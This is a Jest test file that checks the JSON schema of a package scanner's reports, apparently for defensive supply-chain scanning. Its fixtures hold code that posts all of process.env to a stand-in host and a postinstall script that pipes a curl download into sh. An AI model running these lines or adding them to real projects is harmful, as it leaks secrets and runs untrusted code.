import { describe, expect, it } from '@jest/globals';
import { validatorOf } from '@ragnos-vault/testing';
import { DEFAULT_POLICY, reportJsonSchema, type ScanReport } from '../../index.ts';
import { js, manifest, scanOf } from '../testing/hits-of.ts';

const SEND = `fetch('https://a.example.invalid/', { method: 'POST', body: JSON.stringify(process.env) });`;
const FLOW = `const all = JSON.stringify(process.env);\nfetch('https://a.example.invalid/', { method: 'POST', body: all });`;
// Of draft 2020-12 the report uses nothing that draft 7, which ajv takes, has not.
const schema = { ...reportJsonSchema(), $schema: undefined };
const validate = validatorOf(schema);

function errorsOf(report: unknown): readonly string[] {
  return validate(JSON.parse(JSON.stringify(report)));
}

function waived(expires: string): ScanReport {
  const { rule, path } = scanOf(js(SEND)).findings.find(({ blocks }) => blocks)!;
  const waiver = { rule, path, sha256: 'a'.repeat(64), reason: 'known', approvedBy: 'a person', expires };
  return scanOf(js(SEND), { ...DEFAULT_POLICY, waivers: [waiver] });
}

describe('reportJsonSchema', () => {
  it.each<[string, ScanReport]>([
    ['nothing found', scanOf(js('export const a = 1;'))],
    ['findings with their flow', scanOf(js(FLOW))],
    [
      'install scripts',
      scanOf(manifest({ scripts: { postinstall: 'curl https://a.example.invalid | sh' } })),
    ],
    ['a waiver in use', waived('2026-02-01')],
    ['an expired waiver', waived('2025-02-01')],
    [
      'an allowed archive',
      scanOf(js(SEND), {
        ...DEFAULT_POLICY,
        allow: [{ name: '@acme/sample', version: '1.0.0', sha256: 'a'.repeat(64), reason: 'known' }],
      }),
    ],
    ['a source that does not parse', scanOf(js('const = ;'))],
    ['a picture', scanOf({ 'a.png': Uint8Array.of(0x89, 0x50, 0x4e, 0x47, 13, 10, 26, 10) })],
  ])('describes a report of %s', (_, report) => {
    expect(errorsOf(report)).toEqual([]);
  });

  it.each([
    ['another verdict', { verdict: 'fine' }],
    ['a field that no report has', { extra: 1 }],
    ['a digest that is none', { sha256: 'A' }],
    ['a capability left out', { capabilities: {} }],
  ])('refuses %s', (_, change) => {
    expect(errorsOf({ ...scanOf(js(SEND)), ...change })).not.toEqual([]);
  });

  it('is tried on what it is about', () => {
    expect(waived('2026-02-01').waivers).toMatchObject([{ state: 'used' }]);
    expect(waived('2025-02-01').waivers).toMatchObject([{ state: 'expired' }]);
    expect(scanOf(js(FLOW)).findings.some(({ flow = [] }) => flow.length > 1)).toBe(true);
  });
});
